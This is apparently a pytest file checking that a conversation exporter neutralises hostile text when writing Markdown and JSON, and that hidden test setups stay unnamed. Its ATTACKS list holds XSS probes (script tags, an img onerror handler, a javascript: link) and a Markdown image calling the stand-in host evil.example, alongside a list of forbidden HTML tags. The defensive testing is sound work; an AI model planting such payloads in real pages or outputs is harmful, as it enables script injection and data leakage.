"""A conversation as a file: nobody's words become Markdown, HTML or a script in it, and nothing hidden is told."""

from __future__ import annotations

import json

import pytest
from markdown_it import MarkdownIt

from advisor import Language
from assistant.reply import Citation, Reply
from assistant.setup import Setup
from ui.conversations.chats import Conversation, Duel, Turn
from ui.conversations.exporting import to_json, to_markdown

ATTACKS = [
    "![x](https://evil.example/?d=1)",
    "[click](javascript:alert(1))",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "https://evil.example www.evil.example <https://evil.example> me@evil.example",
    "# A heading\n\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "[ref]: https://evil.example\n\n[ref]",
    "```\n</script>\n```\n    code",
    "\x1b[31mred\x1b[0m \u202eevil\u202c &lt;b&gt; **bold** _it_ $x$ ~~s~~",
    "1. one\n- two\n> three\n* four",
]
FORBIDDEN = (
    "<script",
    "<img",
    "<a ",
    "<h1>A",
    "<hr",
    "<table",
    "<code",
    "<pre",
    "<strong",
    "<em",
    "<li",
    "<s>",
    "\x1b",
    "\u202e",
)


class Made:
    """An answer that is there."""

    over, stopped, failure, mishap = True, False, "", ""

    def __init__(self, reply: Reply) -> None:
        self.replies, self.text = [reply], reply.text


def reply(text: str, setup: Setup = Setup.RAG) -> Reply:
    cited = Citation(1, text, text, text)
    return Reply(text, text, setup, (cited,), (), {"total": 1.0}, 1, 1, True, False)


def conversation(text: str, hidden: bool = False) -> Conversation:
    return Conversation([Turn(text, "rag", Made(reply(text)), hidden)])  # type: ignore[arg-type]


def naive(one: Conversation) -> str:
    return "\n\n".join(f"# {turn.question}\n\n{turn.reply.text}" for turn in one.turns if turn.reply)


def rendered(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)


@pytest.mark.fault(94)
@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_words_stay_words_in_markdown(attack: str) -> None:
    html = rendered(to_markdown(conversation(attack), Language.EN))
    body = "\n".join(line for line in html.splitlines() if not line.startswith("<li>") and "[1]" not in line)
    assert not [one for one in FORBIDDEN if one in body]
    assert "evil.example" not in attack or "evil.example" in html, "it can still be read"


@pytest.mark.fault(94)
def test_a_naive_export_carries_the_attack_out() -> None:
    assert all(
        any(one in rendered(naive(conversation(attack))) for one in FORBIDDEN)
        for attack in (ATTACKS[0], ATTACKS[2])
    )


@pytest.mark.fault(94)
def test_the_json_says_the_same_and_can_stand_in_a_web_page() -> None:
    for attack in ATTACKS:
        text = to_json(conversation(attack))
        assert not {"<", ">", "&", "\u2028"} & set(text)
        assert json.loads(text)["turns"][0]["answers"][0]["text"] == attack


@pytest.mark.fault(138)
def test_neither_a_live_split_nor_an_open_vote_is_told() -> None:
    hidden = conversation("q", hidden=True)
    pair = Duel("d", "hybrid", "lora", replies=[reply("a", Setup.HYBRID), reply("b", Setup.LORA)])
    hidden.turns.append(Turn("v", "", duel=pair))
    for text in (to_markdown(hidden, Language.EN), to_json(hidden)):
        assert not [name for name in ("rag", "lora", "hybrid", "RAG", "LoRA", "Hybrid") if name in text]
    pair.choice = "left"
    assert (
        "Hybrid" in to_markdown(hidden, Language.EN)
        and json.loads(to_json(hidden))["turns"][1]["left"] == "hybrid"
    )


def test_the_words_around_follow_the_language() -> None:
    one = conversation("Ne kadar?")
    one.turns[0].good = True
    told = to_markdown(one, Language.TR)
    assert "## Soru" in told and "### Yanıt (RAG)" in told and "İyi bulundu." in told
